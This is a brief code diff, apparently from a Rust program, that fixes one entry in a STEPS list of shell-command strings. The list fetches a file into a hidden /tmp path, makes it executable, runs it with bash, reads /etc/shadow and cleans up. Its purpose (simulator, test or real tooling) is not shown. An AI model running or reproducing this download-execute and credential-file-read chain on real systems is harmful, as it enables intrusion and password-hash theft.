@@ -320,7 +320,7 @@ const STEPS: [(&str, &[&str]); 6] = [
         &[
             "curl -s -o /tmp/.cache-upd",
             "chmod 755 /tmp/.cache-upd",
-            ".cache-upd /tmp/.cache-upd",
+            "/bin/bash /tmp/.cache-upd",
             "cat /etc/shadow",
             "uname -sm",
             "rm -f /tmp/.f",
